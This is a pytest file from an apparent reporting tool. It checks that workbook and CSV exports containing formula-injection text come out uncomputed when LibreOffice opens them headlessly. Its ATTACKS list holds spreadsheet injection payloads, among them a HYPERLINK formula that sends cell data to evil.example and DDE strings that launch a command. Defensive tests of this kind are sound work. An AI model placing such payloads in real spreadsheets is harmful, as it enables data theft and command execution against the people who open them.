"""Hostile exports opened by a real spreadsheet: LibreOffice, headless (issue #18, item 2).

A workbook and a CSV whose names, cases and items are formula attacks are
converted to CSV by ``soffice --headless --convert-to csv``: LibreOffice
computes every formula while it loads them. No user text may come out
computed, and the workbook's own totals must come out as the report's
figures. Skipped where LibreOffice is not installed
(``apt-get install libreoffice-calc-nogui``).
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest

from mlew_tui import store
from mlew_tui.domain.formats import number
from mlew_tui.domain.scoring import analyse
from mlew_tui.domain.session import Session
from mlew_tui.export.files import render

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "=1+1",
]
#: CSV out of LibreOffice: comma, double quote, UTF-8, from line 1; the 12th token -1 writes every sheet.
CSV_OUT = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false"
#: CSV in: the same, with "evaluate formulas" on (the 13th token), the most dangerous way to open one.
CSV_IN = "CSV:44,34,76,1,,0,false,true,false,false,false,,true"


def hostile(session: Session) -> Session:
    for person, text in zip(session.participants, ATTACKS, strict=False):
        person.name = text
    for case, text in zip(session.cases, reversed(ATTACKS), strict=False):
        case.name = text
    for item, text in zip(session.items, ATTACKS, strict=False):
        item.title = text
    return session


def convert(source: Path, profile: Path, out: Path, *args: str, output: str = CSV_OUT) -> None:
    out.mkdir(exist_ok=True)
    command = [str(SOFFICE), f"-env:UserInstallation={profile.as_uri()}", "--headless", *args, "--convert-to", output, "--outdir", str(out), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("lo-profile")


def test_libreoffice_computes_the_totals_and_never_the_user_text_of_the_workbook(en_sample: Path, profile: Path, tmp_path: Path) -> None:
    session = hostile(store.load(en_sample))
    book = tmp_path / "hostile.xlsx"
    book.write_bytes(render(session, "xlsx"))
    convert(book, profile, tmp_path / "out", output=CSV_OUT + ",-1")
    team = read(tmp_path / "out" / "hostile-Team.csv")
    people, cases = session.participants, session.cases
    a = analyse(session)
    assert team[0][1 : 1 + len(people)] == [p.name for p in people]  # the names as typed, not computed
    for n, case in enumerate(cases, start=1):
        row = team[n]
        assert row[0] == case.name
        person_totals = [str(number(a.persons[p.id].totals[case.id])) for p in people]
        assert row[1 : 1 + len(people)] == person_totals, case.id
        assert row[1 + len(people)] == str(number(a.sums[case.id])), case.id
        assert row[2 + len(people)] == str(a.votes[case.id]), case.id
    labels = [r[0] for r in team]
    winner = session.case(a.winner.case or "")
    assert winner is not None
    assert team[labels.index("Winner (picks, then sum)")][1] == winner.name
    items = read(tmp_path / "out" / "hostile-Items.csv")
    assert [r[2] for r in items[1 : 1 + len(ATTACKS)]] == ATTACKS


def test_libreoffice_evaluates_nothing_of_the_csv(en_sample: Path, profile: Path, tmp_path: Path) -> None:
    session = hostile(store.load(en_sample))
    sheet = tmp_path / "hostile.csv"
    sheet.write_bytes(render(session, "csv"))
    convert(sheet, profile, tmp_path / "out", f"--infilter={CSV_IN}")
    assert read(tmp_path / "out" / "hostile.csv") == read(sheet)  # every cell as written: nothing computed
    # the same import does compute a formula that was not defused: the check above could fail
    raw = tmp_path / "raw.csv"
    raw.write_text("Person,Case\r\n=1+1,x\r\n", encoding="utf-8")
    convert(raw, profile, tmp_path / "raw-out", f"--infilter={CSV_IN}")
    assert read(tmp_path / "raw-out" / "raw.csv") == [["Person", "Case"], ["2", "x"]]
